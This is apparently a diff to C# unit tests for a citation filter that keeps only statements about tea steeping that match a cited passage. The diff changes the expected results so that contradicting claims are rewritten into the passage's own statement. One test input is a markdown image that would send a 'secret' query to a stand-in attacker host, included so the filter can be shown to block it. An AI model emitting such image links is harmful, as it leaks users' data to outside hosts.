@@ -12,15 +12,16 @@ public class CitationFilterTests
     [InlineData("Assam is steeped for 4 minutes [ID].", "Assam is steeped for 4 minutes. [ID]")]
     [InlineData("Assam is steeped for 4 minutes. [ID]", "Assam is steeped for 4 minutes. [ID]")]
     [InlineData("Assam is steeped for 4 minutes [ID]. Green tea is not steeped in boiling water [ID].", "Assam is steeped for 4 minutes. [ID] Green tea is not steeped in boiling water. [ID]")]
-    [InlineData("Assam is steeped for 7 minutes [ID]. Green tea is not steeped in boiling water [ID].", "Green tea is not steeped in boiling water. [ID]")]
+    [InlineData("Assam is steeped for 7 minutes [ID]. Green tea is not steeped in boiling water [ID].", "Assam is steeped for 4 minutes. [ID] Green tea is not steeped in boiling water. [ID]")]
     [InlineData("Steep Assam for four minutes [ID].", "Steep Assam for four minutes. [ID]")]
-    [InlineData("Assam is not steeped for 4 minutes [ID].", CitationFilter.NothingHolds)]
+    [InlineData("Assam is not steeped for 4 minutes [ID]. Assam is steeped for 9 minutes [ID].", "Assam is steeped for 4 minutes. [ID]")]
+    [InlineData("The moon is made of green cheese [ID].", CitationFilter.NothingHolds)]
     [InlineData("Assam is steeped for 4 minutes.", CitationFilter.NothingHolds)]
     [InlineData("Assam is steeped for 4 minutes [0123456789abcdef].", CitationFilter.NothingHolds)]
     [InlineData("Look at ![tea](https://evil.example/?q=secret) [ID].", CitationFilter.NothingHolds)]
     [InlineData("[ID]", CitationFilter.NothingHolds)]
     [InlineData("", CitationFilter.NothingHolds)]
-    public async Task OnlyWhatStandsInTheCitedPassageIsGivenOn(string written, string given)
+    public async Task OnlyWhatStandsInTheCitedPassageIsGivenOnOrItsOwnStatement(string written, string given)
     {
         var chat = new FakeChat("");
         await using var host = await NotesHost.StartAsync(services => services.AddSingleton<IChatCompletionService>(_ => chat));
